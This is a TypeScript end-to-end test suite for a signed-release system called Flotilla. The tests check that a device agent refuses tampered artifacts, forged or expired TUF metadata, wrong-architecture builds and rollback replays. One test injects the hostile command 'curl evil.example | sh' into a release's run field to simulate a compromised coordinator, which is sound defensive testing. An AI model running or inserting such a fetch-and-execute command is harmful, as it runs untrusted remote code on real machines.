/**
 * Signed releases end to end: real coordinator, CLI and agent processes. Every refusal must
 * happen before the agent activates anything (and, where the artifact is not at fault, before it
 * downloads anything): the tests check the steps the device reported and its staging directory.
 */
import { execFileSync } from "node:child_process";
import { readdir, readFile, stat, writeFile } from "node:fs/promises";
import { Metadata, MetadataKind, MetaFile, Signature, Snapshot, Timestamp, type Targets } from "@tufjs/models";
import { loadIdentity, tufKeyId, type Identity } from "@flotilla/protocol";
import { join } from "node:path";
import { freePort, waitFor } from "@flotilla/protocol/testing";
import { describe, expect, it } from "vitest";
import {
  artifact,
  bundleAgent,
  bundleTarball,
  createRelease,
  deviceReleases,
  pinnedRootVersion,
  served,
  serverFlags,
  sha256,
  signedFleet,
  tufDir,
  waitForEnd,
  type StepJson,
} from "./support/releases.ts";
import { useSandbox } from "./support/use-sandbox.ts";

const sb = useSandbox();

async function staged(stateDir: string): Promise<string[]> {
  try {
    return await readdir(join(stateDir, "releases", "staging"));
  } catch {
    return [];
  }
}

const names = (steps: StepJson[]) => steps.map((s) => s.step);


describe("releases refused by the coordinator", () => {
  it("refuses to deploy a kind the device does not declare", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "agent.bin", 1000);
    await createRelease(fleet, path, "flotilla-agent", "9.9.9", ["--kind", "agent"]);
    const join0 = await fleet.joinToken(["--auto-approve"]);
    fleet.startAgent(await sb.dir("flotilla-agent-"), join0);
    const device = await waitFor("the device online", async () => (await fleet.devices()).find((d) => d.status === "online"));
    const r = await fleet.admin(["device", "deploy", device.name, "flotilla-agent@9.9.9"]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(new RegExp(`^error: device ${device.name} cannot activate agent releases`, "m"));
  });
});

describe("releases verified by the agent", () => {
  it("installs a release and reports each step with its time; device show prints current and desired", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    const { path, data } = await bundleTarball(dir, "app.tar.gz", { port, padding: 200_000 });
    await createRelease(fleet, path, "app", "1.0.0", serverFlags(port));
    const deploy = await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect(deploy.code, deploy.stderr).toBe(0);

    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(expect.arrayContaining(["checking", "downloading", "verifying", "activating", "healthy"]));
    expect(names(steps).indexOf("verifying")).toBeLessThan(names(steps).indexOf("activating"));
    const done = steps.filter((s) => s.step === "downloading").at(-1)!;
    expect([done.bytesDone, done.bytesTotal]).toEqual([data.length, data.length]);
    for (const s of steps) expect(Date.parse(s.time)).toBeGreaterThan(Date.now() - 600_000);
    expect(await served(port)).toBe("1.0.0");
    // What the supervised process writes reaches the coordinator's logs, under the release's name.
    await waitFor("the service's stdout in the device's logs", async () => {
      const logs = await fleet.admin(["logs", name, "--unit", "app"]);
      return logs.stdout.includes(`serving 1.0.0 on ${port}`);
    });

    const show = await deviceReleases(fleet, name);
    expect(show.releases).toEqual([
      expect.objectContaining({ name: "app", current: { version: "1.0.0", counter: 1 }, desired: expect.objectContaining({ version: "1.0.0", counter: 1 }) }),
    ]);
    const text = await fleet.admin(["device", "show", name]);
    expect(text.stdout).toContain("current 1.0.0 (#1), desired 1.0.0 (#1)");
    expect(text.stdout).toMatch(/\d{4}-\d\d-\d\dT\S+Z {2}app\/1\/app\.tar\.gz {2}healthy/);
    expect(text.stderr).toBe("");
    // Fewer steps asked for than there are: the newest one only, and stderr says what was left out.
    const one = await fleet.admin(["device", "show", name, "--steps", "1"]);
    expect(one.stdout.split("\n").filter((l) => l.includes("app/1/app.tar.gz"))).toEqual([expect.stringMatching(/ {2}healthy$/)]);
    expect(one.stderr).toBe("device show: older release steps were left out; --steps 1000 shows up to 1000\n");
    expect(await staged(stateDir)).toEqual([]);
  });

  it("refuses an artifact altered in the coordinator's store after signing, before activating it", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path, data } = await artifact(dir, "app.tar.gz", 100_000);
    await createRelease(fleet, path, "app", "1.0.0");
    const stored = join(fleet.dataDir, "artifacts", "sha256", sha256(data));
    const altered = Buffer.from(data);
    altered[500] = altered[500]! ^ 0xff;
    await writeFile(stored, altered);

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    const failed = steps.at(-1)!;
    expect(failed.step).toBe("failed");
    expect(failed.error).toContain(`does not match its signed sha256: expected ${sha256(data)}, got ${sha256(altered)}`);
    expect(names(steps)).not.toContain("activating");
    expect(await staged(stateDir)).toEqual([]);
    expect((await deviceReleases(fleet, name)).releases[0]?.current).toBeNull();
  });

  it("refuses targets metadata edited in the coordinator's data directory, before downloading", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0");
    // A compromised coordinator changes what the release runs.
    const file = join(await tufDir(fleet), "2.targets.json");
    const text = await readFile(file, "utf8");
    expect(text).toContain('"run": "bin/app"');
    await writeFile(file, text.replace('"run": "bin/app"', '"run": "curl evil.example | sh"'));

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/signed metadata check failed: .*targets was signed by 0\/1 keys/);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("refuses targets signed by a key outside the threshold, even with snapshot and timestamp re-signed by the coordinator's key", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0");

    // A compromised coordinator holds its online key, but no admin's: it signs new targets with
    // a key of its own and publishes them with a fresh snapshot and timestamp.
    const repo = await tufDir(fleet);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "outsider")]);
    const outsider = await loadIdentity(join(dir, "outsider"));
    const onlineKey = await loadIdentity(join(fleet.dataDir, "online.key"));
    const signWith = (md: Metadata<Targets | Snapshot | Timestamp>, id: Identity) =>
      md.sign((data) => new Signature({ keyID: tufKeyId(id.publicKey), sig: Buffer.from(id.sign(data)).toString("hex") }));
    const targets = Metadata.fromJSON(MetadataKind.Targets, JSON.parse(await readFile(join(repo, "2.targets.json"), "utf8")));
    const forged = Metadata.fromJSON(MetadataKind.Targets, {
      signed: { ...targets.signed.toJSON(), version: 3 },
      signatures: [],
    } as never);
    signWith(forged, outsider);
    const expires = new Date(Date.now() + 3_600_000).toISOString().replace(/\.\d{3}Z$/, "Z");
    const snapshot = new Metadata(new Snapshot({ version: 3, specVersion: "1.0.31", expires, meta: { "targets.json": new MetaFile({ version: 3 }) } }));
    signWith(snapshot, onlineKey);
    const timestamp = new Metadata(new Timestamp({ version: 100, specVersion: "1.0.31", expires, snapshotMeta: new MetaFile({ version: 3 }) }));
    signWith(timestamp, onlineKey);
    await writeFile(join(repo, "3.targets.json"), JSON.stringify(forged.toJSON()));
    await writeFile(join(repo, "3.snapshot.json"), JSON.stringify(snapshot.toJSON()));
    await writeFile(join(repo, "timestamp.json"), JSON.stringify(timestamp.toJSON()));

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/signed metadata check failed: .*targets was signed by 0\/1 keys/);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("follows a root rotation: releases signed by the new threshold install", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    expect(await waitFor("the agent to pin the organization's root", () => pinnedRootVersion(stateDir).catch(() => undefined))).toBe(1);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const owner = join(fleet.adminHome, "admin.key");
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "second"), "--threshold", "2"]);
    expect(rotate.code, rotate.stderr).toBe(0);
    const port = await freePort();
    const { path } = await bundleTarball(dir, "app.tar.gz", { port });
    await createRelease(fleet, path, "app", "1.0.0", [...serverFlags(port), "--key-file", owner, "--key-file", join(dir, "second")]);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app.tar.gz")).at(-1)!.step).toBe("healthy");
    expect(await served(port)).toBe("1.0.0");
    expect(await pinnedRootVersion(stateDir)).toBe(2);
  });

  it("installs a release signed before a rotation that removed its signing key: the rotation re-signed the targets under the new root", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    expect(await waitFor("the agent to pin the organization's root", () => pinnedRootVersion(stateDir).catch(() => undefined))).toBe(1);
    const port = await freePort();
    const { path } = await bundleTarball(dir, "app.tar.gz", { port });
    await createRelease(fleet, path, "app", "1.0.0", serverFlags(port));
    // The owner's key, which signed the release, is replaced by a new one.
    const owner = join(fleet.adminHome, "admin.key");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "second"), "--remove", tufKeyId((await loadIdentity(owner)).publicKey)]);
    expect(rotate.code, rotate.stderr).toBe(0);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app.tar.gz")).at(-1)!.step).toBe("healthy");
    expect(await served(port)).toBe("1.0.0");
    expect(await pinnedRootVersion(stateDir)).toBe(2);
  });

  it("refuses expired timestamp metadata before downloading, and installs when deployed again once it is fresh", async () => {
    const fleet = await signedFleet(sb, ["--tuf-timestamp-ttl-ms", "4000", "--tuf-refresh-ms", "3600000"]);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    const timestamp = JSON.parse(await readFile(join(await tufDir(fleet), "timestamp.json"), "utf8")) as { signed: { expires: string } };
    await waitFor("the timestamp to expire", () => Date.now() > Date.parse(timestamp.signed.expires) + 1000, 20_000);

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/timestamp.*expired|Expired/);
    expect(await staged(stateDir)).toEqual([]);

    // A restarted coordinator re-signs the timestamp; deploying the same release again retries it.
    await fleet.coordinator.stop();
    await fleet.startCoordinator();
    const again = await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect(again.code, again.stderr).toBe(0);
    await waitFor("the redeployed release to be healthy", async () =>
      (await deviceReleases(fleet, name)).steps.some((s) => s.step === "healthy"), 60_000, 250);
    expect(await served(port)).toBe("1.0.0");
  });

  it("refuses a release for another architecture, before downloading", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0", ["--arch", "riscv64"]);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/is for riscv64, not /);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("refuses a replayed older release once a newer one runs", async () => {
    const fleet = await signedFleet(sb);
    const { name } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app-1.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    await createRelease(fleet, (await bundleTarball(dir, "app-2.tar.gz", { port })).path, "app", "2.0.0", serverFlags(port));
    await fleet.admin(["device", "deploy", name, "app@2.0.0"]);
    expect((await waitForEnd(fleet, name, "app/2/app-2.tar.gz")).at(-1)!.step).toBe("healthy");

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app-1.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toContain("refusing app 1.0.0 (#1): lower than the installed 2.0.0 (#2)");
    expect((await deviceReleases(fleet, name)).releases[0]?.current).toEqual({ version: "2.0.0", counter: 2 });
    expect(await served(port)).toBe("2.0.0");
  });

  it("resumes the download after a kill -9 of the agent mid-download, and ends healthy", async () => {
    const fleet = await signedFleet(sb);
    const { agent, name, stateDir } = await bundleAgent(fleet, sb, ["--download-bytes-per-second", "1500000"]);
    const dir = await sb.dir();
    const port = await freePort();
    const { path, data } = await bundleTarball(dir, "app.tar.gz", { port, padding: 6 * 1024 * 1024 });
    await createRelease(fleet, path, "app", "1.0.0", serverFlags(port));
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);

    const part = join(stateDir, "releases", "staging", `${sha256(data)}.part`);
    await waitFor("a part of the download on disk", async () => (await stat(part)).size > 1024 * 1024, 30_000);
    await agent.stop("SIGKILL");
    const partial = (await stat(part)).size;
    expect(partial).toBeLessThan(data.length);

    fleet.startAgent(stateDir, undefined, ["--download-bytes-per-second", "1500000"], "agent-restarted");
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz", 90_000);
    expect(steps.at(-1)!.step).toBe("healthy");
    const downloads = steps.filter((s) => s.step === "downloading");
    expect(downloads.filter((s) => s.bytesDone === 0)).toHaveLength(1);
    expect(downloads.some((s) => s.bytesDone === partial)).toBe(true);
    expect(names(steps).filter((s) => s === "checking")).toHaveLength(1);
    expect(names(steps).filter((s) => s === "activating")).toHaveLength(1);
    expect(await served(port)).toBe("1.0.0");
  });

  it("rolls back a release whose health check fails, and the old one keeps running", async () => {
    const fleet = await signedFleet(sb);
    const { name } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app-1.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    await createRelease(fleet, (await bundleTarball(dir, "app-2.tar.gz", { port, health: 500 })).path, "app", "2.0.0", serverFlags(port, ["--health-window-seconds", "4"]));
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app-1.tar.gz")).at(-1)!.step).toBe("healthy");

    await fleet.admin(["device", "deploy", name, "app@2.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/2/app-2.tar.gz");
    expect(names(steps)).toEqual(expect.arrayContaining(["activating", "health-checking", "rolled-back"]));
    expect(steps.at(-1)!.error).not.toBe("");
    expect((await deviceReleases(fleet, name)).releases[0]?.current).toEqual({ version: "1.0.0", counter: 1 });
    await waitFor("the old release serving again", async () => (await served(port)) === "1.0.0");
  });

  it("ends on a running, healthy release after a kill -9 of the agent during activation", async () => {
    const fleet = await signedFleet(sb);
    const { agent, name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app-1.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    // Version 2 must also stay up for a while, so the kill lands while it is being checked.
    await createRelease(fleet, (await bundleTarball(dir, "app-2.tar.gz", { port })).path, "app", "2.0.0", serverFlags(port, ["--health-up-seconds", "6"]));
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app-1.tar.gz")).at(-1)!.step).toBe("healthy");

    await fleet.admin(["device", "deploy", name, "app@2.0.0"]);
    await waitFor("version 2 being health-checked", async () =>
      (await deviceReleases(fleet, name)).steps.some((s) => s.targetPath === "app/2/app-2.tar.gz" && s.step === "health-checking"),
    );
    await agent.stop("SIGKILL");

    fleet.startAgent(stateDir, undefined, [], "agent-restarted");
    const steps = await waitForEnd(fleet, name, "app/2/app-2.tar.gz", 90_000);
    const end = steps.at(-1)!;
    expect(["healthy", "rolled-back"]).toContain(end.step);
    const version = end.step === "healthy" ? "2.0.0" : "1.0.0";
    expect((await deviceReleases(fleet, name)).releases[0]?.current?.version).toBe(version);
    await waitFor(`version ${version} serving`, async () => (await served(port)) === version);
    expect(names(steps).filter((s) => s === "activating")).toHaveLength(1);
  });
});
